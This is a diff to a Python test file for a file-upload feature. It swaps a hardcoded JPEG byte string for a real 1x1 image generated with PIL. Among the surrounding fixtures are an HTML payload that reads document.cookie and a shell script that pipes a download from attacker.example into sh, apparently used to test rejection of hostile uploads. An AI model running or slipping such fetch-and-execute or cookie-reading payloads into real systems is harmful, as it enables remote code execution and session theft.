@@ -10,6 +10,7 @@ import zlib
 from pathlib import Path
 
 import pytest
+from PIL import Image
 from sqlalchemy import select
 
 from fantasize.errors import Conflict
@@ -43,7 +44,16 @@ PDF = (
     b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
     b"trailer<</Root 1 0 R>>\n%%EOF\n"
 )
-JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
+
+
+def jpeg_bytes() -> bytes:
+    """A real JPEG (images are decoded before they are kept): 1x1, black."""
+    out = io.BytesIO()
+    Image.new("L", (1, 1)).save(out, "JPEG", optimize=True)
+    return out.getvalue()
+
+
+JPEG = jpeg_bytes()
 WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
